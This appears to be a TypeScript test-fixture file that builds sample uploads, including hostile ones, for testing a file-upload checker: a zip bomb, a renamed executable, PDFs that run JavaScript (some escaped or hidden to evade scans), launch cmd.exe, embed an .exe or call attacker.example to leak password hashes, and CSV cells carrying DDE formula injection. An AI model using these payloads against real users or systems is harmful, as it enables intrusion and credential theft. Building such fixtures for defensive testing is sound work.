import { readFileSync } from "node:fs";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";

/** A zip archive with uncompressed entries: enough to build real XLSX and ODS files for upload tests. */
export function storedZip(entries: [name: string, content: string][]): Buffer {
  return zipOf(entries.map(([name, content]) => ({ name, data: Buffer.from(content, "utf8"), stored: true })));
}

/** A minimal spreadsheet in the Office Open XML format. */
export const xlsx = () =>
  storedZip([
    [
      "[Content_Types].xml",
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    ],
    ["xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'],
  ]);

/** A minimal OpenDocument spreadsheet. */
export const ods = () =>
  storedZip([
    ["mimetype", "application/vnd.oasis.opendocument.spreadsheet"],
    ["content.xml", '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'],
  ]);

/** A one-page PDF header and trailer: what file-type looks for. */
export const pdf = () => Buffer.from("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

/** A budget as CSV text. */
export const csv = () => Buffer.from("item,amount\nreplacement laptop,1200\nsecure phone,450\n", "utf8");

/** The first bytes of a Windows executable, as someone might rename it `budget.xlsx`. */
export const windowsExecutable = () => {
  const bytes = Buffer.alloc(512);
  bytes.write("MZ", 0, "latin1");
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write("PE\0\0", 0x80, "latin1");
  return bytes;
};

/** A zip archive whose entries are deflated (as real spreadsheets are), or stored when `stored` is set. */
export function zipOf(entries: { name: string; data: Buffer; stored?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, stored } of entries) {
    const nameBytes = Buffer.from(name, "utf8");
    const packed = stored ? data : deflateRawSync(data, { level: 9 });
    const method = stored ? 0 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    locals.push(local, nameBytes, packed);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const xlsxParts = (sheet: string): { name: string; data: Buffer }[] => [
  {
    name: "[Content_Types].xml",
    data: Buffer.from(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    ),
  },
  {
    name: "xl/workbook.xml",
    data: Buffer.from('<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
  },
  { name: "xl/worksheets/sheet1.xml", data: Buffer.from(sheet) },
];

/** A real, deflated XLSX with a small sheet: what a spreadsheet program writes. */
export const deflatedXlsx = () =>
  zipOf(xlsxParts('<worksheet><sheetData><row r="1"><c r="A1"><v>1200</v></c></row></sheetData></worksheet>'));

/** An XLSX whose one sheet is 64 MiB of the same character, deflated to some 64 KiB: a zip bomb. */
export const zipBombXlsx = () => {
  const [types, workbook] = xlsxParts("");
  return zipOf([types!, workbook!, { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(64 * 1024 * 1024, "0") }]);
};

/** A PDF whose catalog runs JavaScript when it is opened (`/OpenAction` to a `/JavaScript` action). */
export const pdfWithJavaScript = () =>
  Buffer.from(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n" +
      "2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );

/** The same action with its names escaped (`/J#61vaScript` is `/JavaScript` to a reader). */
export const pdfWithEscapedJavaScript = () =>
  Buffer.from(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n" +
      "2 0 obj<</S/J#61vaScript/J#53(app.alert\\(1\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );

/** The JavaScript action kept inside a compressed object stream (PDF 1.5), where a plain scan cannot see it. */
export const pdfWithHiddenJavaScript = () => {
  const objects = Buffer.from("2 0 <</S/JavaScript/JS(app.alert\\(1\\))>>");
  const packed = deflateSync(objects);
  return Buffer.concat([
    Buffer.from(
      "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n" +
        `3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
    ),
    packed,
    Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);
};

/** A PDF that starts another program when opened. */
export const pdfWithLaunch = () =>
  Buffer.from(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );

/**
 * A PDF that, as soon as it is opened, goes to a PDF on a Windows share: the reader connects to the attacker's
 * server and sends its user's password hash. No script, no launch: an `/OpenAction` to a `/GoToR` action.
 */
export const pdfCallingHome = () =>
  Buffer.from(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n" +
      "2 0 obj<</S/GoToR/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)/D[0/Fit]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );

/** A real export: LibreOffice Writer's PDF of a .docx, tagged, with web links and an opening view. */
export const libreOfficePdf = () =>
  readFileSync(new URL("pdf-corpus/libreoffice-writer-docx-tagged-fit-width.pdf", import.meta.url));

/** A PDF that carries another file. */
export const pdfWithEmbeddedFile = () =>
  Buffer.from(
    "%PDF-1.7\n1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj\n" +
      "2 0 obj<</Names[(x.exe)3 0 R]>>endobj\n3 0 obj<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>endobj\n" +
      "4 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );

/** A CSV budget whose cells a spreadsheet would run: a DDE command, an `@` function, a `+` formula. */
export const csvWithFormulas = () =>
  Buffer.from(
    "item,amount\nlaptop,1200\n=cmd|' /C calc'!A0,450\nrefund,-300\n\"@SUM(1+1)*cmd|' /C calc'!A0\",+1+1\n",
    "utf8",
  );
